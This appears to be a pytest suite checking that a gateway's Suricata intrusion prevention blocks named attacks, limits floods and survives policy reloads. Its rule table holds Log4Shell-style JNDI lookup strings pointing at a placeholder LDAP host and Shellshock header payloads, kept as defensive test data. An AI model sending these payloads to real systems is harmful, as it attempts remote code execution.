"""LQ-A3-6: intrusion prevention, floods, and changes of policy that nobody feels."""

from __future__ import annotations

import json
import re
import shlex
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import pytest

from tests.gateway_users import Gateway, counted, eventually, flood, opened_during, proxy_ports

testinfra_hosts = ["ansible://gw01"]
TEST = "KEPIL-INTRUSION-TEST"
HARMFUL = {
    "a request": {"port": 80, "path": f"/{TEST}"},
    "an answer": {"port": 80, "path": "/harmful"},
    "an exception": {"port": 8024, "says": TEST, "lasts": 1},
}

HELLO_SSL3 = "\x16\x03\x00\x00\x2d\x01\x00\x00\x29\x03\x00" + "0" * 32 + "\x00\x00\x02\x00\x0a\x01\x00"
OWN_RULES: dict[str, tuple[int, dict[str, Any]]] = {
    # what each of the role's own rules is to see (roles/gateway/files/kepil.rules), beside the test text
    "JNDI in a path": (1000010, {"port": 80, "path": "/?${jndi:ldap://198.51.100.1/a}"}),
    "JNDI in a header": (1000011, {"port": 80, "headers": ["User-Agent: ${jndi:ldap://198.51.100.1/a}"]}),
    "JNDI in a cookie": (1000011, {"port": 80, "headers": ["Cookie: a=${jndi:ldap://198.51.100.1/a}"]}),
    "a function for bash": (1000012, {"port": 80, "headers": ["Referer: () { :; }; echo"]}),
    "the same in a cookie": (1000012, {"port": 80, "headers": ["Cookie: () { :; }; echo"]}),
    "a private key": (1000013, {"port": 80, "sends": "-----BEGIN EC PRIVATE KEY-----\nMHcCAQEE\n"}),
    "SSH on 80": (1000020, {"port": 80, "says": "SSH-2.0-OpenSSH_10.0\r"}),
    "SSH on 443": (1000020, {"says": "SSH-2.0-OpenSSH_10.0\r"}),
    "BitTorrent on 80": (1000021, {"port": 80, "says": "\x13BitTorrent protocol" + "0" * 48}),
    "BitTorrent on 443": (1000021, {"says": "\x13BitTorrent protocol" + "0" * 48}),
    "mining, by an exception": (1000022, {"port": 8024, "says": '{"method": "mining.subscribe"}', "lasts": 1}),
    "SSL 3": (1000023, {"says": HELLO_SSL3}),
}


@pytest.mark.clause("LQ-A3-6")
def test_intrusion_prevention_drops_what_a_rule_names(gateway: Gateway) -> None:
    """In requests, in answers, and in what a signed exception opens; what no rule names passes beside it."""
    name = gateway.sites["news"]
    *stopped, page, tick = gateway.ask(
        *({"name": name, "seconds": 2, **each} for each in HARMFUL.values()),
        {"name": name, "port": 80},
        {"port": 8024, "says": "go on", "lasts": 0.2},
    )
    assert [TEST in each["body"] or each["length"] for each in stopped] == [0] * len(stopped), list(HARMFUL)
    assert page["body"] == "origin\n"
    assert tick["body"].startswith("tick\n")


@pytest.mark.clause("LQ-A3-6")
def test_each_of_its_own_rules_drops_what_it_is_for(gateway: Gateway) -> None:
    """Application control and the plainest attacks: nothing is answered, and the journal names the rule and port."""
    began = gateway.host.check_output("date +%s")
    answers = gateway.ask(*({"name": gateway.sites["news"], "seconds": 2, **each} for _, each in OWN_RULES.values()))
    assert {what: each["body"] for what, each in zip(OWN_RULES, answers, strict=True) if each["length"]} == {}
    said = gateway.host.check_output(f"journalctl --identifier=suricata --output=cat --since=@{began}")
    events = [json.loads(line) for line in said.splitlines() if line.startswith("{")]
    seen = {
        (each["alert"]["signature_id"], each["dest_port"])
        for each in events
        if each["event_type"] == "alert" and each["alert"]["action"] == "blocked"
    }
    assert {(sid, each.get("port", 443)) for sid, each in OWN_RULES.values()} - seen == set()


@pytest.mark.clause("LQ-A3-6")
def test_what_begins_between_released_ports_is_looked_at_by_the_second_process(gateway: Gateway) -> None:
    """Threat: a handshake, and then from the same port something else, which the first process takes for what it
    released. By an exception, and by the proxy."""
    began = gateway.host.check_output("date +%s")
    ways = {20961: {"port": 8443}, 20962: {"port": 443}}
    bank = {"name": gateway.sites["finance"], "resets": True}
    released = gateway.ask(*({"from": port, **bank, **way} for port, way in ways.items()))
    again = gateway.ask(*({"says": TEST, "seconds": 2, "from": port, **way} for port, way in ways.items()))
    assert [each["status"] for each in released] == [200, 200]
    assert [each["length"] for each in again] == [0, 0]
    said = gateway.host.check_output(f"journalctl --unit=suricata-again --output=cat --since=@{began}")
    alerts = [json.loads(line) for line in said.splitlines() if '"event_type":"alert"' in line]
    seen = {(each["src_port"], each["alert"]["signature_id"], each["alert"]["action"]) for each in alerts}
    assert {(port, 1000001, "blocked") for port in ways} <= seen, said


@pytest.mark.clause("LQ-A3-6")
def test_between_ports_that_both_processes_released_nothing_begins(gateway: Gateway) -> None:
    """The second connection is answered. Threat: a third one, which both take for what they released."""
    reason = "LQ-A3-6: intrusion prevention would not look at it"
    before = counted(gateway, reason)
    bank = {"name": gateway.sites["finance"], "port": 8443}
    same = bank | {"from": 20963, "resets": True}
    released = [*gateway.ask(same), *gateway.ask(same)]
    again, other = gateway.ask(same | {"seconds": 2}, bank)
    assert [each["status"] for each in (*released, again, other)] == [200, 200, None, 200]
    assert counted(gateway, reason) > before


@pytest.mark.clause("LQ-A3-6")
def test_rules_that_are_loaded_anew_remember_what_was_released(gateway: Gateway) -> None:
    """Threat: a converge, after which what begins between released ports is taken for what was released."""
    bank = {"name": gateway.sites["finance"], "port": 8443, "from": 20967, "resets": True}
    statuses = [each["status"] for _ in range(2) for each in gateway.ask(bank)]
    folder = "/etc/kepil/gateway"
    gateway.host.check_output(f"kepil-gateway-rules {folder}/gateway.nft {folder}/intrusion/queue.rules")
    statuses += [each["status"] for each in gateway.ask(bank | {"seconds": 2}, bank | {"from": 20968})]
    assert statuses == [200, 200, None, 200]


@pytest.mark.clause("LQ-A3-6")
def test_quic_does_not_pass(gateway: Gateway) -> None:
    """Threat: browsers that speak UDP go round the proxy."""
    reason = "QUIC goes round all of it"
    before = counted(gateway, reason)
    gateway.ask({"port": 443, "protocol": "udp", "says": "hello", "seconds": 0.2})
    assert counted(gateway, reason) == before + 1


@pytest.mark.clause("LQ-A3-6")
def test_imported_rules_drop_by_severity_and_tell_else(gateway: Gateway) -> None:
    name = gateway.sites["news"]
    severe, mild, named = gateway.ask(
        *({"name": name, "port": 80, "path": f"/?/ET-TEST-{number}", "seconds": 2} for number in (2000001, 2000002)),
        {"name": "intrusion.example.net", "seconds": 2},
    )
    assert (severe["status"], mild["status"]) == (None, 200)
    assert named["certificate"] is None, "by its server name, before it is released"
    said = gateway.host.check_output("journalctl --identifier=suricata --output=cat --lines=20")
    assert '"signature_id":2000002' in said


@pytest.mark.clause("LQ-A3-6", "CP-9.4")
def test_it_tells_who_and_which_rule_and_never_what_for(gateway: Gateway) -> None:
    gateway.ask({"name": gateway.sites["news"], "seconds": 1, **HARMFUL["a request"]})
    lines = gateway.host.check_output("journalctl --identifier=suricata --output=cat --lines=20").splitlines()
    events: list[dict[str, Any]] = [json.loads(line) for line in lines if line.startswith("{")]
    alerts = [each for each in events if each["event_type"] == "alert"]
    assert alerts
    assert alerts[-1]["src_ip"] == gateway.users["enrolled"]
    assert (alerts[-1]["alert"]["signature_id"], alerts[-1]["alert"]["action"]) == (1000001, "blocked")
    assert not [line for line in lines if TEST in line]


@pytest.mark.clause("LQ-A3-6")
def test_its_processes_have_no_rights_but_what_they_need(gateway: Gateway) -> None:
    """Threat: who finds a fault in its parsers owns the gateway. Each is an account of its own, with one capability."""
    for unit in ("suricata", "suricata-again"):
        said = gateway.host.check_output(
            f"systemctl show {unit} --property=DynamicUser,NoNewPrivileges,ProtectSystem,CapabilityBoundingSet"
        )
        assert set(said.splitlines()) == {
            "DynamicUser=yes",
            "NoNewPrivileges=yes",
            "ProtectSystem=strict",
            "CapabilityBoundingSet=cap_net_admin",
        }
    accounts = {int(each) for each in gateway.host.check_output("ps -o uid= -C Suricata-Main").split()}
    assert len(accounts) == 2
    assert min(accounts) > 60000


def test_the_second_process_has_the_memory_that_is_stated_for_it(gateway: Gateway) -> None:
    """Threat: two of them fill the gateway's memory. Both read one file; what differs, systemd's unit says."""
    for setting, stated in (("flow.memcap", ("256mb", "32mb")), ("stream.reassembly.memcap", ("512mb", "64mb"))):
        for unit, size in zip(("suricata", "suricata-again"), stated, strict=True):
            said = gateway.host.check_output(f"suricatasc -c 'conf-get {setting}' /run/{unit}/command.socket")
            assert json.loads(said)["message"] == size


@pytest.mark.clause("LQ-A3-6")
def test_a_flood_of_handshakes_does_not_reach_an_exceptions_destination(gateway: Gateway) -> None:
    """The SYN proxy: above the limit the destination hears only of those who finish; who does gets through meanwhile,
    and is looked into."""
    seen = "ip netns exec origins nft"
    gateway.host.check_output(
        f"{seen} 'table ip flood {{ chain seen {{ type filter hook input priority 0;"
        " tcp dport 8024 tcp flags & (syn | ack) == syn counter; }; }'"
    )
    try:
        flood(gateway, 8024, 1500)
        honest = {"port": 8024, "says": "go on", "lasts": 0.1, "source": gateway.users["moving"]}
        answers = gateway.ask(*[honest] * 50)
        (harmful,) = gateway.ask({"seconds": 2, **HARMFUL["an exception"]})
        (arrived,) = re.findall(r"counter packets (\d+)", gateway.host.check_output(f"{seen} list table ip flood"))
    finally:
        gateway.host.check_output(f"{seen} delete table ip flood")
    assert [each["body"][:5] for each in answers] == ["tick\n"] * 50
    assert harmful["body"] == ""
    assert 50 <= int(arrived) < 500, "of 1,500 and 50"


@pytest.mark.clause("LQ-A3-6")
def test_who_opens_too_many_connections_a_second_is_held_up_alone(gateway: Gateway) -> None:
    too_many = "LQ-A3-6: too many a second"
    before = counted(gateway, too_many)
    flood(gateway, 443, 4000)
    (other,) = gateway.ask({"name": gateway.sites["finance"], "source": gateway.users["moving"]})
    assert counted(gateway, too_many) > before
    assert other["status"] == 200
    eventually(gateway.passes)


@pytest.mark.clause("LQ-A3-6")
def test_who_holds_too_many_connections_gets_no_more(gateway: Gateway) -> None:
    code = (
        "import socket; held = []; refused = 0\n"
        "for _ in range(200):\n"
        "    stream = socket.socket(); stream.settimeout(0.05)\n"
        f"    stream.bind(('{gateway.users['moving']}', 0))\n"
        "    try:\n"
        f"        stream.connect(('{gateway.origins['good']}', 80)); held.append(stream)\n"
        "    except OSError: refused += 1\n"
        "print(len(held), refused)"
    )
    said = gateway.host.check_output(f'ip netns exec users python3 -c "{code}"')
    held, refused = map(int, said.split())
    assert held <= 150
    assert refused >= 50
    assert gateway.passes(), "another user is not concerned"


SETTINGS, TABLE = "/etc/kepil/gateway/policy.json", "/var/lib/kepil/gateway/categories.mdb"
BUILD = """
import json, sys
from pathlib import Path
from kepil.gateway.category import Categories
from kepil.gateway.lookup import build
categories = Categories.load(json.loads(Path(sys.argv[1]).read_text())["categories"])
build(Path(sys.argv[2]), json.load(sys.stdin), {}, categories)
"""


@pytest.fixture
def kept(gateway: Gateway, restored: None) -> Iterator[dict[str, Any]]:
    """The policy in force; after the test it and its table are in force again."""
    yield json.loads(gateway.host.check_output(f"cp -p {SETTINGS} {TABLE} /srv/ && cat {SETTINGS}"))
    for path in (SETTINGS, TABLE):
        gateway.host.check_output(f"cp -p /srv/{path.rpartition('/')[2]} {path}.kept && mv {path}.kept {path}")


@pytest.mark.clause("GW-2", "GW-15")
def test_a_new_policy_and_table_are_in_force_and_take_no_connection_away(
    gateway: Gateway, kept: dict[str, Any]
) -> None:
    """A category and a network are applied for, another category no longer; a site is listed elsewhere than before. All
    while a download is inspected, one is spliced and one is routed, and others begin, of whom none may fail."""
    news, bank = {"name": gateway.sites["news"]}, {"name": gateway.sites["finance"]}
    asked_about = [
        {"name": gateway.sites["games"]},
        {"name": gateway.sites["health"]},
        {"name": gateway.sites["uncategorised"]},
        {"source": gateway.users["listed"], "seconds": 2, **bank},
    ]
    own = gateway.certificate

    def outcome() -> list[object]:
        games, health, unlisted, other = gateway.ask(*asked_about)
        return [
            games["status"],
            health["certificate"] == own(gateway.sites["health"]),
            gateway.issued(unlisted["certificate"]),
            other["certificate"] == own(gateway.sites["finance"]),
        ]

    assert outcome() == [403, True, True, False]
    (enrolled,) = kept["organisations"].values()
    enrolled["categories"] = [each for each in enrolled["categories"] if each != "health"] + ["games"]
    enrolled["networks"].append(f"{gateway.users['listed']}/32")
    listed = [[name, category] for category, name in gateway.sites.items() if category != "uncategorised"]
    listed.append([gateway.sites["uncategorised"], "finance"])
    write_file(gateway, "/srv/build.py", BUILD)
    write_file(gateway, "/srv/listed.json", json.dumps(listed))
    write_file(gateway, f"{SETTINGS}.new", json.dumps(kept))
    change = (
        f"/opt/kepil/current/bin/python3 /srv/build.py {SETTINGS}.new {TABLE} < /srv/listed.json &&"
        f" mv {SETTINGS}.new {SETTINGS} && systemctl start kepil-gateway-apply.service && sleep 4"
    )
    flows: dict[str, dict[str, Any]] = {
        "inspected": {"path": "/long", "seconds": 30, **news},
        "spliced": {"path": "/long", "seconds": 10, **bank},
        "routed": {"port": 8024, "says": "go on", "lasts": 20, "seconds": 10},
    }
    with ThreadPoolExecutor(1) as pool:
        under_way = pool.submit(gateway.ask, *flows.values())
        eventually(lambda: "8024" in gateway.host.check_output("ip netns exec origins ss -Htn state established"))
        began = time.monotonic()
        failed, opened = lost_during(gateway, change)
        eventually(lambda: outcome() == [200, False, False, True], 10)
        took, in_force = time.monotonic() - began, float(gateway.host.check_output("date +%s"))
        answers = under_way.result()
    print(f"in force after {took:.1f} s at most")
    for name, each in zip(flows, answers, strict=True):
        print(f"{name}: the longest silence lasted {each['silence']} s")
        assert each["error"] is None, name
        assert each["ended"] > in_force, name
    assert [each["length"] for each in answers[:2]] == [200 * len("drop\n")] * 2
    assert failed == 0
    assert opened >= 20


@pytest.mark.clause("GW-2")
def test_the_proxy_may_take_a_port_that_its_user_has(gateway: Gateway) -> None:
    """It asks origins by the user's address. Threat: by chance from a port from which the user has a connection to the
    same origin; packets of the one are then taken for the other's, and the user is answered no more.

    All share a kernel here, which numbers what begins later higher, and that would pass by chance; machines of their
    own do as they like: so the user numbers his, and of eight half come to lie above."""
    bank, own, others = {"name": gateway.sites["finance"]}, range(20971, 20979), range(20981, 20989)
    user = gateway.users["enrolled"]

    def taken(namespace: str) -> set[int]:
        listing = gateway.host.check_output(f"{namespace} ss -Htn state established src {user}")
        return {int(port) for port in re.findall(rf"{re.escape(user)}:(\d+) .*:443", listing)}

    before = taken("")
    with ThreadPoolExecutor(2) as pool, proxy_ports(gateway.host) as choose:
        questions = [{"from": port, "begins": 1_000_000_000, "path": "/brief", **bank} for port in own]
        first = pool.submit(gateway.ask, *questions)
        eventually(lambda: {*own} <= taken("ip netns exec users") and len(taken("") - before) == len(own), 20)
        choose(own)
        later = pool.submit(gateway.ask, *({"from": port, "path": "/short", **bank} for port in others))
        eventually(lambda: {*own} <= taken(""), 20)
        answers = [*first.result(), *later.result()]
    assert {each["error"] for each in answers} == {None}
    assert [each["length"] // len("drop\n") for each in answers] == [90] * len(own) + [40] * len(others)


MOST_LOST = 10
"""Of so many that begin while something is read again one may fail: for a moment nobody listens."""


@pytest.mark.clause("GW-2")
def test_what_is_read_again_takes_no_connection_away(gateway: Gateway) -> None:
    """Squid and Suricata read their settings again, and all of the gateway's rules are replaced, while a download is
    inspected, one is spliced and one is routed, and others begin."""
    flows: dict[str, dict[str, Any]] = {
        "inspected": {"name": gateway.sites["news"], "path": "/brief", "seconds": 20},
        "spliced": {"name": gateway.sites["finance"], "path": "/brief", "seconds": 20},
        "routed": {"port": 8024, "says": "go on", "lasts": 9, "seconds": 20},
    }
    anew = "nft -f /etc/kepil/gateway/gateway.nft && iptables-nft-restore /etc/kepil/gateway/intrusion/queue.rules"
    changes = {
        "settings": "systemctl reload squid suricata suricata-again",
        "rules": f"rm -f /run/kepil-gateway/applied && {anew} && systemctl start kepil-gateway-apply.service",
    }
    with ThreadPoolExecutor(1) as pool:
        asked = pool.submit(gateway.ask, *flows.values())
        eventually(lambda: "8024" in gateway.host.check_output("ip netns exec origins ss -Htn state established"))
        for name, change in changes.items():
            print(name)
            failed, opened = lost_during(gateway, f"{change} && sleep 1")
            assert opened >= 20
            assert failed * MOST_LOST <= opened, name
        inspected, spliced, routed = asked.result()
    for name, each in zip(flows, (inspected, spliced, routed), strict=True):
        print(f"{name}: the longest silence lasted {each['silence']} s")
        assert each["error"] is None, name
    assert inspected["length"] == spliced["length"] == 90 * len("drop\n")
    assert gateway.issued(inspected["certificate"])
    eventually(gateway.passes)


def write_file(gateway: Gateway, path: str, content: str) -> None:
    """Write a file on the gateway."""
    gateway.host.check_output(f"printf %s {shlex.quote(content)} > {path}")


def lost_during(gateway: Gateway, change: str) -> tuple[int, int]:
    """How many connections failed of those that users opened during a change, a third each inspected, spliced, routed;
    and how many these were."""
    answers = opened_during(gateway, change)
    lost = {kind: [each["error"] for each in mine if not each["body"]] for kind, mine in answers.items()}
    print(f"new connections that failed, of {sum(map(len, answers.values()))}: {lost}")
    return sum(map(len, lost.values())), sum(map(len, answers.values()))
